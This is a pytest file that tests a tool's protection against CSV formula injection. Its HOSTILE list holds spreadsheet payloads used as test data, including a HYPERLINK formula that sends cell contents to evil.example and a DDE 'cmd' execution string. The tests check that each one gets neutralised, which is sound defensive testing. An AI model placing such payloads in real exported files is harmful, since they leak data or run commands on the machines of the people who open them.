"""CSV cells are escaped against formulas (OWASP CSV injection) in every CSV clusterforge writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cf_lab_inventory import LAB, index_of, lab_data
from clusterforge.cli.main import app
from clusterforge.render import render_environment
from clusterforge.util.csvtext import csv_cell, csv_line, csv_text, plain_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "=1+2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_is_quoted_and_defused(text: str) -> None:
    cell = csv_cell(text)
    assert not plain_cell(text)
    assert cell.startswith("\"'")
    assert next(csv.reader(io.StringIO(cell))) == ["'" + text]


def test_plain_cells_stay_plain() -> None:
    assert csv_line(["C-1", "r01", 2, None, "a=b", "x-1"]) == "C-1,r01,2,,a=b,x-1"
    assert csv_text([["a", "b"], ["c", "d"]]) == "a,b\nc,d\n"


def test_hostile_labels_reach_neither_csv_as_formulas() -> None:
    data = lab_data()
    for i, text in enumerate(HOSTILE):
        data["cables"][i]["label"] = text
    files = render_environment(index_of(data), "lab")
    order = list(csv.reader(io.StringIO(files["cabling/work-order.csv"])))
    labels = list(csv.reader(io.StringIO(files["cabling/labels.csv"])))
    for i, text in enumerate(HOSTILE):
        assert order[1 + i][1] == "'" + text
        assert labels[1 + 2 * i][2].startswith("'" + text) and labels[2 + 2 * i][2].startswith("'" + text)
    for row in order[1:] + labels[1:]:
        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row), row


def test_plan_export_goes_through_the_same_writer(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["plan", "show", str(LAB), "--export", str(tmp_path / "x")])
    assert result.exit_code in (0, 1), result.output
    cables = list(csv.reader(io.StringIO((tmp_path / "x" / "cables.csv").read_text())))
    assert cables[0][0] == "id" and len(cables) > 1
    bom = list(csv.reader(io.StringIO((tmp_path / "x" / "bom.csv").read_text())))
    assert bom[-1][0] == "total"
